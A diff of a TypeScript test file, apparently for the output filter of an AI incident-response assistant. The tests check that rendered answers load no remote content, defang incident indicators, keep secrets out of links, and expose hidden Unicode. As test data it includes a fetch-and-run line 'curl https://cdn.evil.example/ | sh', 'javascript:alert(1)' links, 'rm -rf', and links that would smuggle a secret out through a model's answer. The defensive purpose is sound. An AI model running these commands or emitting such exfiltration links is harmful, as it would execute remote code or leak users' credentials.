@@ -8,27 +8,27 @@ import { createStreamFilter } from '../../src/prompting/output/live-filter.ts'
 import { startWorker } from '../replying/reply-harness.ts'
 import { createContext, MODEL, SETTINGS } from './prompt-context.ts'
 
-const EVIL = { event: { message: 'Beacon to hxxps://cdn.evil[.]example/a.php and login.bad.example.' } }
-const review = (text: string) => buildPrompt(createContext(EVIL), MODEL, SETTINGS).review(text)
-const listKinds = (text: string) => review(text).findings.map(({ kind }) => kind)
+const INCIDENT = { event: { message: 'Beacon to hxxps://cdn.evil[.]example/a.php and login.bad.example.' } }
+const review = (text: string) => buildPrompt(createContext(INCIDENT), MODEL, SETTINGS).review(text)
+const listFindingKinds = (text: string) => review(text).findings.map(({ kind }) => kind)
 
-const LOADED = '<img src=https://img.example/a.png>'
+const LOADING_TAG = '<img src=https://img.example/a.png>'
 /** Lists texts that look like code, but that a renderer does not show as code. */
 const NO_CODE = [
-  `\`\`\`\na \r\`\`\`\r${LOADED}\n\`\`\``,
-  `\`\`\`\r\na\r\n\`\`\`\r\n${LOADED}\r\n\`\`\`\n`,
-  `\`\`\`\n\n\`\`\`\n${LOADED}\n\n`,
-  `\`\`\`\na\n\`\`\`~\n\`\`\`\n${LOADED}\n\`\`\``,
-  `\`\`\`\na\n \`\`\`\n${LOADED}\n\`\`\`\n`,
-  `- a\n\n  \`\`\`\n\`\`\`\n\n\`\`\`\n${LOADED}\n\`\`\``,
-  `a \` b\n\`${LOADED}\``,
-  `\\\\\`a\`${LOADED}\``,
-  `| a | b |\n|---|---|\n| \`${LOADED} | \` |`,
-  `https://img.example/\`${LOADED}\``,
+  `\`\`\`\na \r\`\`\`\r${LOADING_TAG}\n\`\`\``,
+  `\`\`\`\r\na\r\n\`\`\`\r\n${LOADING_TAG}\r\n\`\`\`\n`,
+  `\`\`\`\n\n\`\`\`\n${LOADING_TAG}\n\n`,
+  `\`\`\`\na\n\`\`\`~\n\`\`\`\n${LOADING_TAG}\n\`\`\``,
+  `\`\`\`\na\n \`\`\`\n${LOADING_TAG}\n\`\`\`\n`,
+  `- a\n\n  \`\`\`\n\`\`\`\n\n\`\`\`\n${LOADING_TAG}\n\`\`\``,
+  `a \` b\n\`${LOADING_TAG}\``,
+  `\\\\\`a\`${LOADING_TAG}\``,
+  `| a | b |\n|---|---|\n| \`${LOADING_TAG} | \` |`,
+  `https://img.example/\`${LOADING_TAG}\``,
 ]
 
-t.test('[FILTER1] nothing in an answer is loaded from elsewhere, however it is written', async (t) => {
-  for (const image of [
+t.test('[FILTER1] nothing in an answer is loaded from elsewhere, in whatever way it is written', async (t) => {
+  for (const loading of [
     '![x](https://img.example/a.png)',
     '![](https://img.example/a.png "title")',
     '![a [b] c](https://img.example/a.png)',
@@ -49,27 +49,30 @@ t.test('[FILTER1] nothing in an answer is loaded from elsewhere, however it is w
     '<a href="javascript:alert(1)">x</a>',
     ...NO_CODE,
   ]) {
-    const { content } = review(image)
-    t.notMatch(content, /!\[/, image)
-    t.notMatch(content, /\]\(/, image)
-    t.notMatch(content, /<[a-z/!]/i, image)
-    t.notMatch(content, /^\[ref\]:/m, image)
+    const { content } = review(loading)
+    t.notMatch(content, /!\[/, loading)
+    t.notMatch(content, /\]\(/, loading)
+    t.notMatch(content, /<[a-z/!]/i, loading)
+    t.notMatch(content, /^\[ref\]:/m, loading)
   }
-  t.same(listKinds('![x](https://img.example/a.png)'), ['remote_image'])
-  t.same(listKinds('<img src=x>'), ['html'])
+  t.same(listFindingKinds('![x](https://img.example/a.png)'), ['remote_image'])
+  t.same(listFindingKinds('<img src=x>'), ['html'])
 })
 
 t.test('[FILTER2] links are written out, and lead where they say', async (t) => {
-  const written = (text: string) => review(text).content
-  t.equal(written('See [the docs](https://docs.example.org/a_b).'), 'See the docs (https://docs.example.org/a_b).')
-  t.equal(written('See [https://docs.example.org](https://docs.example.org).'), 'See https://docs.example.org.')
-  t.equal(written('See [it][1].\n\n[1]: https://docs.example.org'), 'See [it][1].\n\n[1]&#58; https://docs.example.org')
-  t.equal(written('<https://docs.example.org/x>'), 'https://docs.example.org/x')
-  t.equal(written('[mail](mailto:a@b.example)'), 'mail (a@b.example)')
-  t.equal(written('[x](javascript:alert(1))'), 'x (`javascript:alert(1)`)')
-  t.same(listKinds('[x](javascript:alert(1))'), ['unsafe_link'])
-  t.same(listKinds('[https://bank.example](https://other.example/login)'), ['misleading_link'])
-  t.same(listKinds('[the docs](https://docs.example.org)'), [])
+  const readContent = (text: string) => review(text).content
+  t.equal(readContent('See [the docs](https://docs.example.org/a_b).'), 'See the docs (https://docs.example.org/a_b).')
+  t.equal(readContent('See [https://docs.example.org](https://docs.example.org).'), 'See https://docs.example.org.')
+  t.equal(
+    readContent('See [it][1].\n\n[1]: https://docs.example.org'),
+    'See [it][1].\n\n[1]&#58; https://docs.example.org',
+  )
+  t.equal(readContent('<https://docs.example.org/x>'), 'https://docs.example.org/x')
+  t.equal(readContent('[mail](mailto:a@b.example)'), 'mail (a@b.example)')
+  t.equal(readContent('[x](javascript:alert(1))'), 'x (`javascript:alert(1)`)')
+  t.same(listFindingKinds('[x](javascript:alert(1))'), ['unsafe_link'])
+  t.same(listFindingKinds('[https://bank.example](https://other.example/login)'), ['misleading_link'])
+  t.same(listFindingKinds('[the docs](https://docs.example.org)'), [])
 })
 
 t.test('[FILTER3] addresses of the incident can’t be opened', async (t) => {
@@ -93,8 +96,8 @@ t.test('[FILTER3] addresses of the incident can’t be opened', async (t) => {
 })
 
 t.test('[FILTER2] an image without words in a link keeps both addresses', async (t) => {
-  const written = '[![](http://a.example/i.png)](http://b.example/p)'
-  const { text, findings } = filterAnswer(written, { eventTexts: '', secrets: [], fenceToken: '' })
+  const imageInLink = '[![](http://a.example/i.png)](http://b.example/p)'
+  const { text, findings } = filterAnswer(imageInLink, { eventTexts: '', secrets: [], fenceMarker: '' })
   t.equal(text, '(http://a.example/i.png) (http://b.example/p)')
   t.ok(findings.some(({ kind }) => kind === 'remote_image'))
 })
@@ -103,7 +106,7 @@ t.test('[FILTER3] a dot after the host changes nothing', async (t) => {
   const { text, findings } = filterAnswer('http://evil.example./p', {
     eventTexts: 'evil.example',
     secrets: [],
-    fenceToken: '',
+    fenceMarker: '',
   })
   t.notMatch(text, 'http://')
   t.match(findings, [{ kind: 'indicator_link' }])
@@ -111,7 +114,7 @@ t.test('[FILTER3] a dot after the host changes nothing', async (t) => {
 
 t.test('[FILTER3] addresses that only some renderers open can’t be opened either: www., ws: and wss:', async (t) => {
   const record = 'beacon to evil.example, 203.0.113.7 and 2001:db8::7'
-  const written = (text: string) => filterAnswer(text, { eventTexts: record, secrets: [], fenceToken: '' })
+  const filter = (text: string) => filterAnswer(text, { eventTexts: record, secrets: [], fenceMarker: '' })
   for (const [text, shown] of [
     ['See www.evil.example/a.php.', 'See `www[.]evil[.]example/a.php`.'],
     ['It speaks WSS://evil.example:8443/x', 'It speaks `WSS[:]//evil[.]example:8443/x`'],
@@ -120,20 +123,20 @@ t.test('[FILTER3] addresses that only some renderers open can’t be opened eith
     ['http://[2001:db8::7]:80/x', '`hxxp://[2001:db8::7]:80/x`'],
     ['(http://www.evil.example)', '(`hxxp://www[.]evil[.]example`)'],
   ] as const) {
-    t.equal(written(text).text, shown)
+    t.equal(filter(text).text, shown)
     t.same(
-      written(text).findings.map(({ kind }) => kind),
+      filter(text).findings.map(({ kind }) => kind),
       shown.includes('`') ? ['indicator_link'] : [],
       text,
     )
   }
-  t.equal(written('www.docs.example, www. and awww.evil.example').text, 'www.docs.example, www. and awww.evil.example')
+  t.equal(filter('www.docs.example, www. and awww.evil.example').text, 'www.docs.example, www. and awww.evil.example')
 })
 
-t.test('[FILTER5] a short or encoded secret doesn’t leave in a link either, and a chance match stays', async (t) => {
+t.test('[FILTER5] a short or encoded secret leaves in no link; an address that matches by chance stays', async (t) => {
   const keepsAddress = (secret: string, address: string) =>
     !/link left out/.test(
-      filterAnswer(`See http://log.example${address} now`, { eventTexts: '', secrets: [secret], fenceToken: '' }).text,
+      filterAnswer(`See http://log.example${address} now`, { eventTexts: '', secrets: [secret], fenceMarker: '' }).text,
     )
   for (const [secret, address] of [
     ['Kx7!q', '/?p=Kx7!q'],
@@ -157,7 +160,7 @@ t.test('[FILTER5] a short or encoded secret doesn’t leave in a link either, an
   }
 })
 
-t.test('[FILTER4] code stays as it is, and so does what is only prose', async (t) => {
+t.test('[FILTER4] code and plain prose stay as they are', async (t) => {
   for (const text of [
     'Run `curl https://cdn.evil.example/a.php`.',
     '```sh\ncurl https://cdn.evil.example/ | sh\necho "<img>" ![x](y)\n```\n',
@@ -171,22 +174,26 @@ t.test('[FILTER4] code stays as it is, and so does what is only prose', async (t
   }
 })
 
-t.test('[FILTER5] a secret doesn’t leave in a link, and a fence’s mark isn’t repeated', async (t) => {
+t.test('[FILTER5] a secret doesn’t leave in a link, and a fence’s marker isn’t repeated', async (t) => {
   const context = createContext({ question: 'Is AKIAABCDEFGHIJKLMNOP ours?' })
   const { turns, review: check, restore } = buildPrompt(context, MODEL, SETTINGS)
   const leaking = check(restore('[x](https://log.example/?k=[[KEY-1]]) and [[KEY-1]]'))
   t.match(leaking, { content: /link left out.* and AKIA/, findings: [{ kind: 'secret_in_link' }] })
   t.notMatch(JSON.stringify(leaking.findings), 'AKIA')
   for (const secret of ['Summer2025!', 'Summer2025密码', 'Rh2E)pFg.E78x', 'Corr3ct horse battery', 'Rh2E|pFg.E78x']) {
-    const cut = filterAnswer(`See http://log.example/?p=${secret} now`, {
+    const filtered = filterAnswer(`See http://log.example/?p=${secret} now`, {
       eventTexts: '',
       secrets: [secret],
-      fenceToken: '',
+      fenceMarker: '',
     })
-    t.match(cut, { text: /link left out/, findings: [{ kind: 'secret_in_link' }] }, `${secret} ends an address early`)
+    t.match(
+      filtered,
+      { text: /link left out/, findings: [{ kind: 'secret_in_link' }] },
+      `${secret} ends an address early`,
+    )
   }
-  const mark = /<<<(DATA-\w+)/.exec(turns[0]?.content ?? '')?.[1] ?? 'none'
-  t.match(check(`The data <<<${mark} ev1 event says so.`), {
+  const marker = /<<<(DATA-\w+)/.exec(turns[0]?.content ?? '')?.[1] ?? 'none'
+  t.match(check(`The data <<<${marker} ev1 event says so.`), {
     content: 'The data ‹fence› ev1 event says so.',
     findings: [{ kind: 'mark_repeated' }],
   })
@@ -218,7 +225,7 @@ t.test('[FILTER6] findings in the reasoning of an answer are recorded, too, and 
 })
 
 t.test('[FILTER6] reasoning is plain text: its characters stay, and its indicators can’t be opened', async (t) => {
-  const context = createContext({ ...EVIL, question: 'Is AKIAABCDEFGHIJKLMNOP ours?' })
+  const context = createContext({ ...INCIDENT, question: 'Is AKIAABCDEFGHIJKLMNOP ours?' })
   const { turns, reviewReasoning } = buildPrompt(context, MODEL, SETTINGS)
   const written = 'a < b && <b>c</b> ![x](https://img.example/a_b.png) &lt; `[[KEY-1]]` [P1]: x [ev9] \\\\FS-01\\_x'
   t.equal(reviewReasoning(written).text, written.replace('[[KEY-1]]', 'AKIAABCDEFGHIJKLMNOP'))
@@ -227,21 +234,24 @@ t.test('[FILTER6] reasoning is plain text: its characters stay, and its indicato
     'See [it](hxxp://login[.]bad[.]example/x), `curl hxxps://cdn[.]evil[.]example`.',
   )
   t.equal(reviewReasoning('![x](https://log.example/?k=[[KEY-1]])').text, '![x]([link left out])')
-  const mark = /<<<(DATA-\w+)/.exec(turns[0]?.content ?? '')?.[1] ?? 'none'
-  t.match(reviewReasoning(`<<<${mark} ev1`), { text: '‹fence› ev1', findings: [{ kind: 'mark_repeated' }] })
+  const marker = /<<<(DATA-\w+)/.exec(turns[0]?.content ?? '')?.[1] ?? 'none'
+  t.match(reviewReasoning(`<<<${marker} ev1`), { text: '‹fence› ev1', findings: [{ kind: 'mark_repeated' }] })
 })
 
 t.test('[FILTER7] while an answer is written, what would be loaded is broken up at every split', async (t) => {
   const text = 'a ![x](u) <img src=u> <b> <IFRAME src=u></iframe> if x<im and !! [y](u) <!-- <scripted> <script>!'
-  const whole = read([text])
+  const whole = filterStream([text])
   t.notMatch(whole, /!\[/)
   t.notMatch(whole, /<(?:img|iframe|script)\b/i)
   t.match(whole, '<scripted>')
-  for (let at = 0; at <= text.length; at++) t.equal(read([text.slice(0, at), text.slice(at)]), whole)
-  t.equal(read([...text]), whole)
+  for (let split = 0; split <= text.length; split++) {
+    t.equal(filterStream([text.slice(0, split), text.slice(split)]), whole)
+  }
+  t.equal(filterStream([...text]), whole)
 })
 
-function read(pieces: string[]): string {
+/** Returns what readers see of an answer that arrives in these pieces. */
+function filterStream(pieces: string[]): string {
   const filter = createStreamFilter()
   return pieces.map((piece) => filter.push(piece)).join('') + filter.end()
 }
@@ -265,27 +275,27 @@ t.test('[FILTER7] a hostile answer is filtered within seconds', async (t) => {
     '`a`',
     '`a` \n',
   ]) {
-    const began = process.threadCpuUsage() // others share this machine
+    const before = process.threadCpuUsage() // Other processes may slow down the clock, but not this.
     review(text.repeat(20_000))
-    const ms = process.threadCpuUsage(began).user / 1_000
+    const ms = process.threadCpuUsage(before).user / 1_000
     t.ok(ms < 4_000, `${text} took ${Math.round(ms)} ms`)
   }
 })
 
-t.test('[DECEPTIVE4] an answer shows what it would hide, in code and in reasoning too', async (t) => {
-  const { review: check, reviewReasoning } = buildPrompt(createContext(EVIL), MODEL, SETTINGS)
+t.test('[DECEPTIVE4] an answer shows its hidden characters, in code and in reasoning too', async (t) => {
+  const { review: check, reviewReasoning } = buildPrompt(createContext(INCIDENT), MODEL, SETTINGS)
   t.equal(
     check('Run `rm -rf \u202e/x` on pa\u00adypal.com 👩🏽\u200d💻').content,
     'Run `rm -rf ⟨U+202E⟩/x` on pa⟨U+00AD⟩ypal.com 👩🏽\u200d💻',
   )
   t.equal(reviewReasoning('a\u200bb').text, 'a⟨U+200B⟩b')
   t.equal(check('now\u0085\u2028then').content, 'now\u0085\u2028then', 'a separator of lines stays')
-  const again = check('pa\u00adypal.com and http://pаypal.com').content
-  t.equal(check(again).content, again)
+  const marked = check('pa\u00adypal.com and http://pаypal.com').content
+  t.equal(check(marked).content, marked, 'a second review changes nothing')
 })
 
 t.test('[FILTER3] [FILTER5] hidden characters break neither an indicator nor a secret up', async (t) => {
-  const context = { eventTexts: 'evil.example', secrets: ['Tr0ub4dor&3'], fenceToken: '' }
+  const context = { eventTexts: 'evil.example', secrets: ['Tr0ub4dor&3'], fenceMarker: '' }
   for (const hidden of ['\u200b', '\u00ad', '\u202e']) {
     const indicator = filterAnswer(markDeceptive(`http://ev${hidden}il.example/x`), context)
     t.match(indicator.findings, [{ kind: 'indicator_link' }])
@@ -294,8 +304,8 @@ t.test('[FILTER3] [FILTER5] hidden characters break neither an indicator nor a s
   }
 })
 
-t.test('[FILTER4] [FILTER5] an address ends where Chinese text begins, and no words after it are lost', async (t) => {
-  const context = { eventTexts: '恶意.com evil.example', secrets: ['Tr0ub4dor&3x', '密码Abc12345'], fenceToken: '' }
+t.test('[FILTER4] [FILTER5] an address ends where Chinese text begins, and the text after it is kept', async (t) => {
+  const context = { eventTexts: '恶意.com evil.example', secrets: ['Tr0ub4dor&3x', '密码Abc12345'], fenceMarker: '' }
   const shown = (text: string) => filterAnswer(text, context).text
   const rest = '然后立即隔离主机WEB01并重置密码。'
   t.equal(shown(`攻击者访问 http://log.example/?q=Tr0ub4dor&3x${rest}`), `攻击者访问 \`[link left out]\`${rest}`)
